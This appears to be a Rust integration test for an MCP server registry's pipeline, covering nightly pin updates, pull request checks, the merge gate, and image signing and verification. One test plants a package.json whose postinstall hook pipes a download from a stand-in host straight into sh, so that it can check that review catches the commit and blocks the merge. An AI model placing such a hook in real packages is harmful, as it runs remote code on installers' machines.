//! A registry from `init` to a silent second night, with nothing in between but programs: real upstream, engine, image registry,
//! keys and Git; GitHub behind its protocol.

use super::APP;
use crate::build::lab::Lab;
use crate::hub::checked::Required;
use crate::hub::limits::Limits;
use crate::hub::{Hub, TOKEN};
use crate::image_registry::ImageRegistry;
use crate::night_world::repository::{Bare, Files};
use crate::night_world::server::NightServer;
use crate::publishing::{REPO, said};
use crate::runner::{Output, Runner};
use mcp_registry::ids::CommitSha;
use std::path::Path;
use tempfile::TempDir;

/// A registry on GitHub, and the upstream of its one entry.
struct Whole {
    hub: Hub,
    /// What its jobs run on.
    machine: Runner,
    upstream: Bare,
    server: NightServer,
    pin: CommitSha,
    images: ImageRegistry,
    /// Removes the images at the end.
    lab: Lab,
    _folder: TempDir,
}

fn files() -> Files {
    Files::of(&[
        ("Dockerfile", "FROM scratch\nCOPY . /\n"),
        ("LICENSE", "MIT License\n"),
        ("server.py", "def forecast(city):\n    return f\"It is sunny in {city}.\"\n"),
    ])
}

impl Whole {
    /// `init` in an empty folder, an entry, and all of it on GitHub.
    fn new() -> Option<Self> {
        let (lab, images) = Lab::new().zip(ImageRegistry::start())?;
        let folder = TempDir::new().unwrap();
        let upstream = Bare::new(folder.path(), "/acme/weather", "main");
        let pin = upstream.commit(&files(), &[], "First", false);
        upstream.set("refs/heads/main", &pin);
        upstream.seal();
        let server = NightServer::start(folder.path(), std::time::Duration::ZERO);
        let machine = Runner::new();
        machine.git(["init", "--quiet"]);
        let (namespace, host) = (format!("{}/", lab.namespace), format!("127.0.0.1:{}", server.port));
        let tool = format!("--tool=acme/mcp-registry@{}", "a".repeat(40));
        let app = APP.to_string();
        let init = [
            "init",
            "--namespace",
            &namespace,
            "--host",
            &host,
            "--app-id",
            &app,
            "--owners",
            "@acme/maintainers",
            &tool,
        ];
        let output = machine.run(init);
        assert_eq!(output.status, 0, "{}", said(&output));
        let policy = machine.read("mcp-registry.toml");
        machine.write("mcp-registry.toml", format!("{policy}\n[network]\nallow = [\"127.0.0.0/8\"]\n"));
        // The example is one of github.com, and where that is no host there is none.
        assert!(!machine.root().join("servers").exists());
        let manifest = format!(
            "name: weather\nimage: {namespace}weather\ntype: server\nmeta:\n  category: devops\n  tags:\n    - weather\nabout:\n  \
             title: Weather\n  description: Says what the weather is like in a city.\n  icon: https://example.com/icon.png\nsource:\n  \
             project: {}\n  commit: {pin}\n",
            server.url("/acme/weather")
        );
        machine.write("servers/weather/server.yaml", manifest).write("servers/weather/readme.md", "# Weather\n");
        machine.write("servers/weather/tools.json", "[]\n");
        let output = machine.run(["validate", "--fail-on", "warning"]);
        assert_eq!(output.status, 0, "{}", said(&output));
        let all = every_file(&machine.root());
        let all: Vec<(&str, &str)> = all.iter().map(|(path, text)| (path.as_str(), text.as_str())).collect();
        let hub = Hub::start();
        hub.change(|world| {
            world.create(REPO, &all);
            world.repo_mut(REPO).required = vec![Required { context: "mcp-registry/gate".to_owned(), app: Some(APP) }];
        });
        hub.limit(Limits::unlimited());
        Some(Self { hub, machine: Runner::new(), upstream, server, pin, images, lab, _folder: folder })
    }

    /// Upstream makes another commit.
    fn upstream_commits(&self, files: &Files) -> CommitSha {
        let next = self.upstream.commit(files, &[&self.pin], "More weather", false);
        self.upstream.set("refs/heads/main", &next);
        next
    }

    /// A step of a job. With a token it speaks to GitHub, and without one to upstreams.
    fn step(&self, arguments: &[&str], with_token: bool) -> Output {
        let certificate = self.machine.home().join("ca.pem");
        std::fs::write(&certificate, &self.server.ca).unwrap();
        let step = self.machine.command(arguments).env("TMPDIR", self.lab.temporary());
        let step = match with_token {
            true => step.env("GITHUB_TOKEN", TOKEN).env("GITHUB_API_URL", &self.hub.url).env("GITHUB_REPOSITORY", REPO),
            false => step.env("SSL_CERT_FILE", certificate).env("GITHUB_API_URL", self.server.url("/api/v3")),
        };
        step.env("COSIGN_PASSWORD", "pw").run()
    }

    #[track_caller]
    fn runs(&self, arguments: &[&str], with_token: bool) -> String {
        let output = self.step(arguments, with_token);
        assert_eq!(output.status, 0, "{arguments:?}: {}", said(&output));
        output.stdout
    }

    fn checkout(&self) {
        self.hub.fetch(REPO, &self.machine.root());
    }

    /// The nightly run, in its two jobs.
    fn night(&self) {
        self.checkout();
        let plan = self.machine.home().join("plan.json");
        let plan = plan.to_str().unwrap();
        // How old a commit must be is another test's matter.
        self.runs(&["update-pins", "--dry-run", "--plan", plan, "--urgent", "weather"], false);
        self.runs(
            &["update-pins", "--apply", plan, "--urgent", "weather", "--open-prs", "--write-interval", "0"],
            true,
        );
    }

    /// The jobs of pull request 1, and then the gate: its exit status.
    fn pull_request(&self) -> Output {
        self.checkout();
        let range = "--diff=main..pull/1";
        self.runs(&["checks", "start", "--pr=1", range, "--write-interval=0"], true);
        self.runs(&["validate", range, "--format=json", "-o", "../home/validate.json"], false);
        self.runs(&["build", range, "--format=json", "-o", "../home/build.json"], false);
        self.step(&["review", range, "--agent=static", "--report-dir", "../home/reviews"], false);
        let reports = ["../home/validate.json", "../home/build.json", "../home/reviews"];
        self.runs(&[&["checks", "publish", "--pr=1", range, "--write-interval=0"], &reports[..]].concat(), true);
        self.step(&["checks", "gate", "--pr=1", range, "--write-interval=0"], true)
    }

    fn merge(&self) -> Output {
        self.step(&["merge", "--pr=1", "--write-interval=0", "--patience=1s"], true)
    }

    /// What becomes of the entry after the merge: built, pushed, signed, attested, verified.
    fn publish(&self, pin: &CommitSha) {
        let before = self.machine.git(["rev-parse", "main"]);
        self.checkout();
        let range = format!("--diff={before}..main");
        let registry = format!("--image-registry={}", self.images.host);
        let home = |name: &str| self.machine.home().join(name).to_str().unwrap().to_owned();
        let (digests, records) = (home("digests.json"), home("records"));
        self.runs(&["build", &range, "--push", &registry, "--digests", &digests, "--records", &records], false);
        self.runs(&["generate-key-pair", "--output-key-prefix", &home("cosign")], false);
        let (key, public) = (home("cosign.key"), home("cosign.pub"));
        self.runs(&["sign", "--key", &key, "--digests", &digests], false);
        self.runs(&["attest", "--key", &key, "--digests", &digests, "--records", &records], false);
        self.runs(
            &["verify", "--key", &public, "--digests", &digests, "--layout=both", "--type=slsaprovenance1"],
            false,
        );
        let repository = format!("{}/weather", self.lab.namespace);
        assert!(self.images.digest(&repository, pin.short()).is_some());
    }

    fn state(&self) -> String {
        self.hub.look(|world| {
            let thread = &world.repo(REPO).threads[&1];
            let pull = thread.pull.as_ref().unwrap();
            let conclusions = world.checks_of(REPO, &pull.head_sha);
            let mut checks: Vec<String> = conclusions
                .iter()
                .filter(|check| check.app == APP)
                .map(|check| format!("{}: {}", check.name, check.conclusion.as_deref().unwrap_or(&check.status)))
                .collect();
            checks.sort();
            let merged = if pull.merged.is_some() { "merged" } else { "not merged" };
            format!("{}\nlabels: {}\n{merged}", checks.join("\n"), thread.labels.join(", "))
        })
    }
}

/// Every file below a folder but those of Git.
fn every_file(root: &Path) -> Vec<(String, String)> {
    let mut found = Vec::new();
    let mut open = vec![root.to_owned()];
    while let Some(folder) = open.pop() {
        for item in std::fs::read_dir(&folder).unwrap().flatten() {
            let path = item.path();
            match item.file_type().unwrap().is_dir() {
                true if item.file_name() == ".git" => {}
                true => open.push(path),
                false => {
                    let name = path.strip_prefix(root).unwrap().to_str().unwrap().to_owned();
                    found.push((name, std::fs::read_to_string(&path).unwrap()));
                }
            }
        }
    }
    found
}

#[test]
fn a_pin_goes_from_a_night_to_a_signed_image_and_the_next_night_is_silent() {
    let Some(whole) = Whole::new() else { return };
    let text = "def forecast(city):\n    return f\"It is raining in {city}.\"\n";
    let next = whole.upstream_commits(&files().with("server.py", text));
    whole.night();
    let gate = whole.pull_request();
    assert_eq!(gate.status, 0, "{}{}", said(&gate), whole.state());
    let merged = whole.merge();
    assert_eq!(merged.status, 0, "{}", said(&merged));
    insta::assert_snapshot!(whole.state(), @"
    build/weather: success
    mcp-registry/gate: success
    security-review/weather: success
    validate/weather: success
    labels: security-risk:info
    merged
    ");
    whole.publish(&next);
    whole.hub.calls();
    whole.night();
    assert_eq!(whole.hub.writes(), Vec::<String>::new(), "the second night is silent");
}

#[test]
fn a_malicious_commit_of_upstream_is_found_and_merged_by_nobody() {
    let Some(whole) = Whole::new() else { return };
    let package = r#"{"name": "weather", "version": "1.0.1", "scripts": {"postinstall": "curl -s https://collect.example.net/x | sh"}}"#;
    whole.upstream_commits(&files().with("package.json", package));
    whole.night();
    let gate = whole.pull_request();
    assert_eq!(gate.status, 1, "{}{}", said(&gate), whole.state());
    let merged = whole.merge();
    assert_eq!(merged.status, 1, "{}", said(&merged));
    insta::assert_snapshot!(whole.state(), @"
    build/weather: success
    mcp-registry/gate: action_required
    security-review/weather: neutral
    validate/weather: success
    labels: security-risk:high
    not merged
    ");
    let pin = whole.hub.look(|world| world.read(REPO, "main", "servers/weather/server.yaml").unwrap());
    assert!(pin.contains(whole.pin.as_str()));
}
